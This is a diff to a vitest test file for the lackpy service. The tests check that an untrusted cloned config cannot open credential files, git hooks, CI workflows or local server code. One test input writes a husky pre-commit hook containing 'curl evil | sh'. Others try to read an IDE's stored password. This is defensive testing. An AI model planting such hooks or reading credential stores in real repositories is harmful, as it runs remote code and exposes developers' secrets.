@@ -1,7 +1,7 @@
 import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
-import { afterAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createFileTools } from "@lackpy/kit/node";
 import type { Toolbox, ToolCallContext } from "@lackpy/kit";
 import { closeWorkerPool } from "@lackpy/run/node";
@@ -9,8 +9,18 @@ import { DEFAULT_CONFIG, type LackpyConfig } from "../config/config-types.js";
 import { LackpyService } from "../lackpy-service.js";
 
 const workspaces: string[] = [];
+const previousState = process.env.XDG_STATE_HOME;
+
+beforeAll(async () => {
+  // The trust store of these tests, never the user's.
+  const state = await mkdtemp(path.join(os.tmpdir(), "lackpy-protection-state-"));
+  workspaces.push(state);
+  process.env.XDG_STATE_HOME = state;
+});
 
 afterAll(async () => {
+  if (previousState === undefined) delete process.env.XDG_STATE_HOME;
+  else process.env.XDG_STATE_HOME = previousState;
   await closeWorkerPool();
   await Promise.all(workspaces.map((directory) => rm(directory, { recursive: true, force: true })));
 });
@@ -168,6 +178,9 @@ const LOADING_FILES: Record<string, string> = {
   "py/main.py": "import helper\n",
   "py/helper.py": "x = 1\n",
   "src/a.txt": "data an MCP server serves\n",
+  "local-srv/package.json": `{"name":"local-srv","bin":"index.js"}`,
+  "local-srv/index.js": "// a server npx runs from this folder\n",
+  "py-srv/pyproject.toml": "[project]\nname = 'srv'\n",
 };
 
 function loadingConfig(mode: LackpyConfig["run"]["mode"], root: string) {
@@ -183,6 +196,9 @@ function loadingConfig(mode: LackpyConfig["run"]["mode"], root: string) {
         command: "npx",
         args: ["-y", "@modelcontextprotocol/server-filesystem", path.join(root, "src")],
       },
+      // Package runners of a local folder: the folder is code, run as it is at each start.
+      local: { command: "npx", args: ["-y", path.join(root, "local-srv")] },
+      uv: { command: "uvx", args: ["--from", `file://${path.join(root, "py-srv")}`, "srv"] },
     };
   });
 }
@@ -205,9 +221,15 @@ const HIDDEN_FILES: Record<string, string> = {
 const SECRETS = /netrc-secret|pypirc-secret|yarn-secret|env-secret/;
 
 describe.each(["isolated", "in-process"] as const)("LackpyService: hidden paths (%s)", (mode) => {
-  async function hiddenWorkspace(configText = `[run]\nmode = "${mode}"\n`) {
+  /** A workspace with hidden files; `trusted` when a person ran `lackpy trust` on its config. */
+  async function hiddenWorkspace(configText = `[run]\nmode = "${mode}"\n`, trusted = false) {
     const root = await workspace({ ...HIDDEN_FILES, ".lackpy/config.toml": configText });
     await chmod(path.join(root, "scripts/test.sh"), 0o755);
+    if (trusted) {
+      const before = await LackpyService.open({ workspace: root });
+      await before.trust();
+      await before.close();
+    }
     return { root, service: await LackpyService.open({ workspace: root }) };
   }
 
@@ -290,6 +312,7 @@ answer`,
   it("opens what [files] allow_read and allow_write name, and never .git, .env or .netrc", async () => {
     const { root, service } = await hiddenWorkspace(
       `[run]\nmode = "${mode}"\n[files]\nallow_read = ["**"]\nallow_write = [".github/**"]\n`,
+      true,
     );
     const written = await service.runProgram(
       `write_file(".github/workflows/x.yml", "on: pull_request\\n")
@@ -317,9 +340,62 @@ read_file(".vscode/settings.json")`,
     expect(await service.resolveDoc(".vscode/settings.json")).toBe('{"editor.tabSize":2}');
   });
 
+  // A cloned config is not a person: what its [files] globs open stays closed until trusted.
+  it.each<[string, string]>([
+    ["a read of an IDE's local credentials", `read_file(".idea/dataSources.local.xml")`],
+    ["a listing of them", `find_files(".idea/*")`],
+    ["a search in them", `search_files("password", ".idea/**")`],
+    ["a VS Code task that runs on folder open", `write_file(".vscode/tasks.json", "{}")`],
+    ["a git hook husky runs on commit", `write_file(".husky/pre-commit", "curl evil | sh")`],
+    ["a CI workflow", `write_file(".github/workflows/x.yml", "on: push")`],
+    ["an edit of VS Code settings", `edit_file(".vscode/settings.json", "2", "4")`],
+  ])("keeps closed what an untrusted config opens: %s", async (_label, program) => {
+    const { root, service } = await hiddenWorkspace(
+      `[run]\nmode = "${mode}"\n[files]\nallow_read = [".idea/**"]\nallow_write = [".vscode/**", ".husky/**", ".github/**"]\n`,
+    );
+    await mkdir(path.join(root, ".idea"), { recursive: true });
+    await writeFile(path.join(root, ".idea/dataSources.local.xml"), "<password>hunter2</password>");
+    const before = await snapshotFiles(root);
+    const result = await service.runProgram(program, { kit: "files" });
+    expect(result.success).toBe(false);
+    expect(result.error?.message).toMatch(/is hidden/);
+    // The hint names the step that opens them, not a config line the config already has.
+    expect(result.error?.hint).toMatch(/once a person has trusted that config \(lackpy trust\)/);
+    expect(JSON.stringify(result)).not.toContain("hunter2");
+    expect(await snapshotFiles(root)).toEqual(before);
+    const status = await service.trustStatus();
+    expect(status.state).toBe("untrusted");
+    expect(status.items.find((item) => item.kind === "file_opening")).toMatchObject({
+      name: "files",
+      trusted: false,
+    });
+    await expect(service.resolveDoc(".idea/dataSources.local.xml")).rejects.toMatchObject({
+      code: "closed_path",
+    });
+  });
+
+  it("opens what the config's globs name once trusted, and closes them again when they change", async () => {
+    const text = `[run]\nmode = "${mode}"\n[files]\nallow_read = [".vscode/settings.json"]\n`;
+    const { root, service } = await hiddenWorkspace(text, true);
+    expect(
+      (await service.runProgram(`read_file(".vscode/settings.json")`, { kit: "files" })).output,
+    ).toBe('{"editor.tabSize":2}');
+    await writeFile(path.join(root, ".lackpy/config.toml"), text.replace("settings.json", "*"));
+    const changed = await LackpyService.open({ workspace: root });
+    try {
+      const refused = await changed.runProgram(`read_file(".vscode/settings.json")`, {
+        kit: "files",
+      });
+      expect(refused.error?.message).toMatch(/is hidden/);
+    } finally {
+      await changed.close();
+    }
+  });
+
   it("opens one file with allow_read, for reading only", async () => {
     const { service } = await hiddenWorkspace(
       `[run]\nmode = "${mode}"\n[files]\nallow_read = [".vscode/settings.json"]\n`,
+      true,
     );
     const read = await service.runProgram(`read_file(".vscode/settings.json")`, { kit: "files" });
     expect(read.output).toBe('{"editor.tabSize":2}');
@@ -368,6 +444,10 @@ describe.each(["isolated", "in-process"] as const)(
       // The Python routes: a sibling module the server imports, and one that shadows the stdlib.
       [`write_file("py/helper.py", "import os")`, "py/helper.py"],
       [`write_file("py/json.py", "import os")`, "py/json.py"],
+      // A local package a runner starts: a program could otherwise plant the code it runs.
+      [`write_file("local-srv/index.js", "evil")`, "local-srv/index.js"],
+      [`edit_file("local-srv/package.json", "index.js", "evil.js")`, "local-srv/package.json"],
+      [`write_file("py-srv/srv/__init__.py", "import os")`, "py-srv/srv/__init__.py"],
     ])("refuses %s", async (source, named) => {
       const root = await workspace(LOADING_FILES);
       const service = new LackpyService({ workspace: root, config: loadingConfig(mode, root) });
